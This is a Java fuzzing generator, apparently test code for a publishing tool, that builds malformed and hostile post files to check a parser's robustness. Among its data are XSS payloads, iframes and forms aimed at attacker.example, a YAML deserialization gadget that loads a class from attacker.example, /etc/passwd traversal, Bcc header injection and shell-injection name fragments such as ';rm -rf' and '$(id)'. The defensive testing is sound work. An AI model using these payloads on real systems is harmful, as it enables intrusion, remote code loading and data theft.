package dev.pressline.reliability.hostile;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.Stream;

/**
 * A generator of the files editors' tools (and attackers) really produce: random bytes, truncated
 * UTF-8, enormous lines, deep Markdown nesting, huge and hostile front matter, odd encodings, script
 * and header injection, and names with control characters. Driven by a seeded {@link Random}, so a
 * failing file is reproduced by running again with the seed the test printed.
 */
public final class HostileFiles {

  private static final String TYPOGRAPHY = "Don’t – “quoted” … café ß 中文 😀 é";
  private static final List<String> NAME_NOISE = List.of("", "\u0001", "\n", "\r\n", "\t", "\u202e", "\u0007", " ",
      "..", "%00", "\u200b", "\u00a0", ";rm -rf", "$(id)", "<script>", "\u001b[31m", "\ufeff");
  private static final List<String> EXTENSIONS = List.of(".txt", ".md", ".markdown", ".txt", ".md");
  private static final List<String> CHARSETS = List.of("UTF-16LE", "UTF-16BE", "UTF-16", "UTF-32", "UTF-32LE",
      "Shift_JIS", "EUC-JP", "ISO-2022-JP", "Big5", "GB18030", "KOI8-R", "IBM037", "IBM1047", "ISO-8859-7",
      "x-UTF-16LE-BOM", "windows-1252", "x-IBM930");

  /** Fragments that turn prose into an attack or into a parser's corner case. */
  private static final List<String> FRAGMENTS = List.of(
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"JaVaScRiPt&#58;alert(1)\">x</a>", "<iframe src=//attacker.example>", "<svg onload=alert(1)>",
      "<math><mi xlink:href=javascript:alert(1)>", "[x](javascript:alert(1))", "![x](javascript:alert(1))",
      "<style>*{}</style>", "<form action=//attacker.example>", "]]>", "<!--", "-->", "<![CDATA[",
      "\r\nBcc: victim@example.org", "\r", "\n", "\r\n", "\t", "\u0000", "\u001b[31m", "\u2028", "\u202e",
      "\ufeff", "\ud83d\ude00", "&#0;", "&lt;", "&", "---", "***", "> ", "- ", "1. ", "# ", "    ", "```", "```x<y>",
      "`", "*", "_", "[", "]", "(", ")", "|", "\\", "{{ 7*7 }}", "{% raw %}", "%s%n", "../", "..\\", TYPOGRAPHY);
  private static final List<String> PROSE_CHARSETS = List.of("UTF-8", "UTF-16", "UTF-16LE", "UTF-16BE",
      "ISO-8859-1", "windows-1252");

  private final Random random;
  private final List<Function<Random, HostileFile>> families = List.of(
      this::randomBytes, this::truncatedUtf8, this::enormousLine, this::deepNesting, this::hugeFrontMatter,
      this::hostileFrontMatter, this::oddEncoding, this::injection, this::controlCharacters, this::markupProse,
      this::hostileValues);

  public HostileFiles(long seed) {
    this.random = new Random(seed);
  }

  /** An endless stream of hostile files, each family equally likely. */
  public Stream<HostileFile> stream() {
    return Stream.generate(() -> families.get(random.nextInt(families.size())).apply(random));
  }

  private static <T> T pick(Random r, List<T> values) {
    return values.get(r.nextInt(values.size()));
  }

  private static String name(Random r) {
    String base = r.ints(1 + r.nextInt(12), 'a', 'z' + 1)
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    String name = pick(r, NAME_NOISE) + base + pick(r, NAME_NOISE) + pick(r, EXTENSIONS);
    // Linux forbids only '/' and NUL in names
    return name.replace('/', '_').replace('\0', '_');
  }

  private static String markdownName(Random r) {
    return name(r).replaceAll("\\.\\w+$", ".md");
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  HostileFile randomBytes(Random r) {
    byte[] bytes = new byte[r.nextInt(20_000)];
    r.nextBytes(bytes);
    return new HostileFile("random bytes", name(r), bytes);
  }

  HostileFile truncatedUtf8(Random r) {
    String noise = r.ints(1 + r.nextInt(400), 0x80, 0x10000).filter(c -> c < 0xd800 || c > 0xdfff)
        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    byte[] bytes = utf8("Title " + TYPOGRAPHY + "\n\n" + noise);
    // cut inside the last multi-byte character
    return new HostileFile("truncated UTF-8", name(r), Arrays.copyOf(bytes, Math.max(1, bytes.length - 1 - r.nextInt(3))));
  }

  HostileFile enormousLine(Random r) {
    String unit = pick(r, List.of("a", "word ", "–", "😀", " ", "*", "[", "<b>", "&amp;"));
    int length = 10_000 + r.nextInt(600_000);
    String line = unit.repeat(Math.max(1, length / unit.length()));
    String text = r.nextBoolean() ? line + "\n\nbody\n" : "A fine title\n\n" + line + "\n";
    return new HostileFile("enormous line", name(r), utf8(text));
  }

  HostileFile deepNesting(Random r) {
    String unit = pick(r, List.of("> ", "- ", "* ", "1. ", "[", "*", "_", "<div>", "```\n", "    ", "![", "(", "<", "  - "));
    int depth = 100 + r.nextInt(50_000);
    return new HostileFile("deep nesting", name(r), utf8("# Nested\n\n" + unit.repeat(depth) + "deep text\n"));
  }

  HostileFile hugeFrontMatter(Random r) {
    int keys = 1_000 + r.nextInt(20_000);
    StringBuilder fm = new StringBuilder("---\ntitle: Huge front matter\n");
    for (int i = 0; i < keys; i++) {
      fm.append("key").append(i).append(": value ").append(i).append('\n');
    }
    if (r.nextBoolean()) {
      fm.append("---\n");
    }
    fm.append("Body\n");
    return new HostileFile("huge front matter", markdownName(r), utf8(fm.toString()));
  }

  HostileFile hostileFrontMatter(Random r) {
    String laughs = "---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
        + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
        + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ntitle: Billion laughs\n---\nbody\n";
    String yaml = pick(r, List.of(
        laughs,
        "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n---\nbody\n",
        "---\ntitle: [unclosed\n---\nbody\n",
        "---\ntitle: ok\ntitle: twice\n---\nbody\n",
        "---\ntitle: {a: {b: {c: {d: {e: deep}}}}}\n---\nbody\n",
        "---\ndate: not-a-date\ntitle: Bad date\n---\nbody\n",
        "---\ndate: 99999-12-31\ntitle: Far date\n---\nbody\n",
        "---\nslug: ../../etc/passwd\ntitle: Traversal\n---\nbody\n",
        "---\nslug: \"a\\u0000b\"\ntitle: Nul slug\n---\nbody\n",
        "---\naudio: ../../../../etc/passwd\ntitle: Audio traversal\n---\nbody\n",
        "---\naudio: /etc/passwd\ntitle: Absolute audio\n---\nbody\n",
        "---\nimage: \"C:\\\\Windows\\\\win.ini\"\ntitle: Windows image\n---\nbody\n",
        "---\ntitle: \"Subject\\r\\nBcc: victim@example.org\"\n---\nbody\n",
        "---\nauthor: \"Eve\\r\\nBcc: victim@example.org\"\ntitle: Author injection\n---\nbody\n",
        "---\nepisode: 99999999999999999999\ntitle: Big episode\n---\nbody\n",
        "---\ntags: " + "[x, ".repeat(200) + "\ntitle: Tags\n---\nbody\n",
        "---\n" + "[".repeat(5_000) + "\n---\nbody\n",
        "---\n" + "a:\n  ".repeat(2_000) + "b: c\n---\nbody\n",
        "---\ntitle: <script>alert(1)</script>\nsummary: <img src=x onerror=alert(1)>\n---\n<script>alert(2)</script>\n"));
    return new HostileFile("hostile front matter", markdownName(r), utf8(yaml));
  }

  HostileFile oddEncoding(Random r) {
    Charset charset = Charset.forName(pick(r, CHARSETS));
    String title = pick(r, List.of("Grüße aus Köln", TYPOGRAPHY, "Заголовок", "見出し", "Ελληνικά", "A plain title"));
    String text = title + "\n\nThe body of the post, " + TYPOGRAPHY + ".\n";
    return new HostileFile("odd encoding", name(r), text.getBytes(charset));
  }

  HostileFile injection(Random r) {
    List<String> payloads = List.of(
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt&#58;alert(1)\">entity</a>",
        "<iframe src=\"https://attacker.example\"></iframe>",
        "<svg onload=alert(1)>",
        "[click](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "<style>body{display:none}</style>",
        "<form action=https://attacker.example><input name=p></form>",
        "]]></content:encoded><script>alert(1)</script>",
        "{{ 7*7 }} {% for x in range(1,9999999) %}x{% endfor %}",
        "Subject: injected\r\nBcc: victim@example.org",
        "&lt;script&gt;alert(1)&lt;/script&gt;");
    boolean markdown = r.nextBoolean();
    String title = pick(r, payloads).replace("\r", "").replace("\n", " ");
    String text = (markdown ? "# " : "") + "Title " + title + "\n\n" + pick(r, payloads) + "\n\n" + pick(r, payloads) + "\n";
    return new HostileFile("script and header injection", name(r).replaceAll("\\.\\w+$", markdown ? ".md" : ".txt"),
        utf8(text));
  }

  /** Prose built of attack fragments, control characters and words, in one of six encodings. */
  HostileFile markupProse(Random r) {
    String text = fragments(r, 40);
    return new HostileFile("markup prose", name(r), text.getBytes(Charset.forName(pick(r, PROSE_CHARSETS))));
  }

  /**
   * Well-formed front matter whose values hold attacks and control characters (escaped, so the YAML
   * stays valid and the values themselves reach the parser's checks).
   */
  HostileFile hostileValues(Random r) {
    StringBuilder yaml = new StringBuilder("---\ntitle: ").append(quoted("Post " + fragments(r, 6)))
        .append("\nsummary: ").append(quoted(fragments(r, 12)));
    if (r.nextBoolean()) {
      yaml.append("\nauthor: ").append(quoted(fragments(r, 4)));
    }
    if (r.nextInt(4) == 0) {
      yaml.append("\nslug: ").append(quoted(fragments(r, 3)));
    }
    yaml.append("\ntags: [").append(quoted(fragments(r, 3))).append(", ").append(quoted(fragments(r, 3)))
        .append("]\n---\n").append(fragments(r, 30));
    return new HostileFile("hostile front-matter values", markdownName(r), utf8(yaml.toString()));
  }

  private static String fragments(Random r, int most) {
    StringBuilder text = new StringBuilder();
    for (int i = r.nextInt(most + 1); i > 0; i--) {
      text.append(r.nextBoolean() ? pick(r, FRAGMENTS)
          : r.ints(r.nextInt(12), ' ', '~' + 1)
              .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append));
    }
    return text.toString();
  }

  /** A YAML double-quoted scalar holding exactly {@code value}, control characters escaped. */
  private static String quoted(String value) {
    StringBuilder out = new StringBuilder("\"");
    value.chars().forEach(c -> {
      if (c == '"' || c == '\\') {
        out.append('\\').append((char) c);
      } else if (Character.isISOControl(c) || c == 0x2028 || c == 0x2029 || c == 0xfeff) {
        out.append(String.format("\\u%04x", c));
      } else {
        out.append((char) c);
      }
    });
    return out.append('"').toString();
  }

  HostileFile controlCharacters(Random r) {
    int c = r.nextInt(10) == 0 ? 0x7f : r.nextInt(0x20);
    return switch (r.nextInt(3)) {
      case 0 -> new HostileFile("control characters", name(r), utf8("Ti" + (char) c + "tle\n\nbody\n"));
      case 1 -> new HostileFile("control characters", name(r), utf8("Title\n\nbo" + (char) c + "dy\n"));
      default -> new HostileFile("control characters", markdownName(r),
          utf8("---\ntitle: \"x" + String.format("\\u%04x", c) + "y\"\n---\nbody\n"));
    };
  }
}
